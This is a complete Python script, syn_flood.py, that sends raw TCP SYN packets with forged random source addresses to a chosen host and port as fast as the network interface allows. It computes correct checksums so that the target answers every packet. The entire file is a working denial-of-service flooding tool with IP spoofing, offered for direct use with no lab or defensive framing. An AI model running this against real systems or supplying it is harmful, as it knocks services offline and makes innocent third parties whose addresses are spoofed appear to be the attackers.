"""Sends SYNs from random addresses, as fast as it can: syn_flood.py INTERFACE MAC ADDRESS PORT COUNT.

Addresses are of 11.0.0.0/8 to 126.0.0.0/8. Checksums are right, so the server answers each. Prints how many it
has sent.
"""

import errno
import random
import socket
import struct
import sys
import time


def fold(total: int) -> int:
    """The ones' complement sum of 16-bit words, as a checksum."""
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def words(data: bytes) -> int:
    return sum(struct.unpack(f"!{len(data) // 2}H", data))


def main() -> None:
    interface, mac, address, port, count = sys.argv[1:]
    sender = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sender.bind((interface, 0))
    to, destination, count = bytes.fromhex(mac.replace(":", "")), socket.inet_aton(address), int(count)
    ethernet = to + sender.getsockname()[4] + b"\x08\x00"
    ip_head = struct.pack("!BBHHHBB", 0x45, 0, 40, 0, 0x4000, 64, socket.IPPROTO_TCP)
    tcp_tail = struct.pack("!IBBH", 0, 5 << 4, 0x02, 0xFFFF)
    ip_sum = words(ip_head) + words(destination)
    tcp_sum = words(destination) + socket.IPPROTO_TCP + 20 + int(port) + words(tcp_tail)
    pack, send, draw = struct.Struct("!H4s4sHHI8sHH").pack, sender.send, random.Random(1).getrandbits
    for _ in range(count):
        bits = draw(80)
        source = (11 + bits % 116 << 24 | bits >> 8 & 0xFFFFFF).to_bytes(4, "big")
        source_port, sequence = 1024 + (bits >> 32 & 0x7FFF), bits >> 48
        pair = int.from_bytes(source, "big")
        pair = (pair >> 16) + (pair & 0xFFFF)
        tcp = fold(tcp_sum + pair + source_port + (sequence >> 16) + (sequence & 0xFFFF))
        ip = fold(ip_sum + pair)
        rest = pack(ip, source, destination, source_port, int(port), sequence, tcp_tail, tcp, 0)
        frame = ethernet + ip_head + rest
        while True:
            try:
                send(frame)
                break
            except OSError as error:
                # The interface's queue is full: the receiver is slower.
                if error.errno != errno.ENOBUFS:
                    raise
                time.sleep(0)
    print(count)


if __name__ == "__main__":
    main()
